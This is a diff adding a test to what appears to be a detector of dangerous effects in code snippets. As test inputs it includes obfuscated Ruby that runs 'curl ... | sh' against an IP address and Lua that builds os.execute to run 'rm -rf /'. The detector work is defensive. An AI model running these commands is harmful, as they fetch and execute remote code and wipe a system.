@@ -62,6 +62,13 @@ test('a command with its words one by one or in a list, and texts joined of sign
   );
 });
 
+test('classes and functions that are reached by their names in quotes', () => {
+  const fetched = 'downloads_and_runs downloaded code';
+  assert.ok(kinds("Object.const_get('IO').popen('curl http://203.0.113.4/x | sh')").includes(fetched));
+  assert.ok(kinds("local o = _G['o'..'s']; o['exe'..'cute']('rm -rf /')").includes('deletes /'));
+  assert.deepEqual(kinds("render params['page']; Object.const_get('User').find(1)"), []);
+});
+
 test('everyday Ruby has no effects', () => {
   assert.deepEqual(
     kinds('class A < B\n  def show\n    @user = User.find(params[:id])\n    render json: @user\n  end\nend'),
